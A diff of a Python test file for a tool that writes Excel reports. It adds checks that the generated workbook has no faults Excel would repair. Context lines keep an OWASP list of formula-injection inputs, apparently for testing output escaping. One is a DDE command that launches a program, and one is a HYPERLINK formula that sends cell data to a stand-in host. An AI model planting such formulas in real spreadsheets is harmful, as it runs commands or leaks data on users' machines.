@@ -23,6 +23,7 @@ from supportlens.report.layout.ranges import CellRange
 from supportlens.report.layout.styles import BODY
 from supportlens.report.writing.safe_text import excel_safe
 from tests.builders import a_study
+from tests.unit.report.ooxml_rules import find_faults
 
 OWASP = (
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
@@ -147,16 +148,42 @@ def test_nothing_in_the_package_runs_or_leads_outside(package: zipfile.ZipFile) 
     assert 'TargetMode="External"' not in relations
 
 
-def test_every_part_is_well_formed_and_cells_stand_in_order(package: zipfile.ZipFile) -> None:
-    for name in package.namelist():
-        root = etree.fromstring(package.read(name)) if name.endswith((".xml", ".rels")) else None
-        if root is None or not name.startswith("xl/worksheets/sheet"):
-            continue
-        rows = [int(row.get("r")) for row in root.iterfind(".//{*}row")]
-        assert rows == sorted(set(rows)), name
-        for row in root.iterfind(".//{*}row"):
-            places = [cell.get("r") for cell in row]
-            assert len(places) == len(set(places)), name
+def test_excel_has_nothing_to_repair(package: zipfile.ZipFile) -> None:
+    assert find_faults(package) == []
+
+
+@pytest.mark.parametrize(
+    ("part", "found", "planted", "said"),
+    [
+        ("[Content_Types].xml", "/xl/styles.xml", "/xl/style.xml", "style.xml has a type but is not there"),
+        ("xl/_rels/workbook.xml.rels", "worksheets/sheet2.xml", "worksheets/sheet1.xml", "nothing leads to"),
+        ("xl/_rels/workbook.xml.rels", 'Id="rId2"', 'Id="rId1"', "rId1 twice"),
+        ("xl/workbook.xml", 'name="Causas"', 'name="Resumen"', "two sheets are called resumen"),
+        ("xl/workbook.xml", '<definedName name="', '<definedName name="A1">A!$A$1</definedName><definedName name="', "A1 is no defined name"),
+        ("xl/workbook.xml", "</definedName>", "+Ausente!$A$1</definedName>", "names a sheet that is not there"),
+        ("xl/worksheets/sheet2.xml", "<sheetData>", "<pageMargins/><sheetData>", "another order"),
+        ("xl/worksheets/sheet2.xml", '<row r="3"', '<row r="2"', "row 2 after 2"),
+        ("xl/worksheets/sheet2.xml", ' s="', ' s="9999', "a look that is not there"),
+        ("xl/worksheets/sheet2.xml", ' t="s"><v>', ' t="s"><v>99999', "a text that is not there"),
+        ("xl/worksheets/sheet2.xml", ' r="B2"', ' r="D2"', "stands in the wrong place"),
+        ("xl/tables/table1.xml", ' name="Causa"', ' name="Otra"', "its cell says 'Causa'"),
+        ("xl/tables/table1.xml", 'displayName="', 'displayName="1 ', "no name for a table"),
+        ("xl/tables/table1.xml", ' id="2"', ' id="1"', "two columns of one id"),
+        ("xl/styles.xml", 'fontId="1"', 'fontId="999"', "fontId 999 is not there"),
+        ("xl/charts/chart1.xml", "<c:f>", "<c:f>Ausente!$A$1+", "names a sheet that is not there"),
+    ],
+)  # fmt: skip
+def test_what_excel_would_repair_is_noticed(
+    package: zipfile.ZipFile, part: str, found: str, planted: str, said: str
+) -> None:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as damaged:
+        for name in package.namelist():
+            content = package.read(name).decode("utf-8", "surrogateescape")
+            assert name != part or found in content
+            content = content.replace(found, planted, 1) if name == part else content
+            damaged.writestr(name, content.encode("utf-8", "surrogateescape"))
+    assert said in "\n".join(find_faults(zipfile.ZipFile(stream)))
 
 
 def test_every_chart_says_in_words_what_it_shows(package: zipfile.ZipFile) -> None:
